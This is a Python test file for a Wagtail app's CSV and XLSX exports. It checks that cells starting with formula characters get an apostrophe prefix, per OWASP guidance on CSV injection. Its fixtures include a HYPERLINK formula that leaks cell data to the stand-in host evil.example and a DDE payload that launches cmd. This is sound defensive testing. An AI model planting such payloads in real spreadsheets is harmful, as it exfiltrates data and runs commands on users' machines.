"""Every CSV and XLSX the app writes neutralises cells a spreadsheet would run as formulas (OWASP).

Hostile text goes into every field an editor controls that reaches a spreadsheet: the ITAS note, a
division's name, and the "last edited by" name an editor sets on their own account.
"""

import csv
import io

import pytest
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import Site

from wagtail_ita.models import Division
from wagtail_ita.spreadsheets import FORMULA_STARTS, safe_cell

from .coordinator import make_coordinator, page_of, publish
from .factories import Files, good_blocks

NOTE = '=HYPERLINK("https://evil.example/?"&A1,"ดูหลักฐาน")'
DIVISION = "+cmd|' /C calc'!A0"
FIRST_NAME = "@SUM(1+1)"
HOSTILE = (NOTE, DIVISION, FIRST_NAME)


@pytest.fixture
def hostile(section):
    site = Site.objects.get(is_default_site=True)
    site.hostname, site.port = "www.example.go.th", 443
    site.save()
    finance = Division.objects.get(key="finance")
    finance.name = DIVISION
    finance.save()
    editor = make_coordinator(first_name=FIRST_NAME, last_name="")
    o21 = page_of(section, "O21")
    publish(section, "O21", good_blocks(section.year_page.framework.item("O21"), 2566, Files()), user=editor)
    o21.refresh_from_db()
    o21.itas_note = NOTE
    o21.save_revision(user=editor).publish(user=editor)
    yield section
    cache.clear()


def assert_safe(cells):
    cells = [cell for cell in cells if isinstance(cell, str)]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    return cells


def csv_cells(data):
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


def xlsx_cells(data):
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [cell.value for cell in cells]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_safe_cell_prefixes_formula_starts(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("ปกติ") == "ปกติ" and safe_cell(3) == 3 and safe_cell("a=b") == "a=b"


def test_itas_export_csv_and_xlsx(hostile, run_command, tmp_path):
    for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        output = tmp_path / f"itas.{fmt}"
        run_command("ita_export_urls", year=2566, format=fmt, output=str(output), allow_local=True, offline=True)
        cells = assert_safe(read(output.read_bytes()))
        assert "'" + NOTE in cells
        assert any(cell.startswith("'" + DIVISION) for cell in cells)


def test_dashboard_csv_and_xlsx(hostile, client):
    client.force_login(make_coordinator("boss"))
    url = reverse("wagtail_ita_dashboard")
    cells = assert_safe(csv_cells(b"".join(client.get(url, {"export": "csv"}).streaming_content)))
    assert "'" + FIRST_NAME in cells and any(cell.startswith("'" + DIVISION) for cell in cells)
    cells = assert_safe(xlsx_cells(b"".join(client.get(url, {"export": "xlsx"}).streaming_content)))
    assert "'" + FIRST_NAME in cells and any(cell.startswith("'" + DIVISION) for cell in cells)


def test_admin_itas_download(hostile, client):
    client.force_login(make_coordinator("boss"))
    for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        response = client.get(reverse("wagtail_ita_export", args=[2566, fmt]), {"force": "1"})
        assert response.status_code == 200
        assert "'" + NOTE in assert_safe(read(b"".join(response.streaming_content)))


def test_public_open_data_csv(hostile, client):
    response = client.get("/ita/2566/open-data/csv/")
    cells = assert_safe(csv_cells(response.content))
    assert any(cell.startswith("'" + DIVISION) for cell in cells)


def test_ita_status_csv(hostile, run_command):
    out, _err = run_command("ita_status", year=2566, format="csv")
    cells = assert_safe(csv_cells(out))
    assert any(cell.startswith("'" + DIVISION) for cell in cells)
